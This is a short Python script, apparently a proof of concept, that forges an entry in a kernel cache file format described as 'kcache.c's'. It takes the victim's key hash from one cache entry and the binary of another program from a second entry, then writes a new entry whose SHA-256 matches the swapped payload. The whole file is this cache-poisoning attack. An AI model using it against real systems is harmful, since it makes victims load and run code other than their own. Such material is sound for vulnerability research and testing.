"""Writes an entry for the victim's key (argv[1], an entry of that key)
whose payload is another program's binary (argv[2], an entry), to argv[3].
The format is kcache.c's: magic, key hash, payload size, SHA-256 of the
payload, payload."""
import hashlib, struct, sys
key_entry, other_entry, out = sys.argv[1:4]
key = open(key_entry, "rb").read()[8:40]
other = open(other_entry, "rb").read()
payload = other[80:]
with open(out, "wb") as f:
    f.write(b"XGPUKC\x01\n" + key + struct.pack("<Q", len(payload)) +
            hashlib.sha256(payload).digest() + payload)
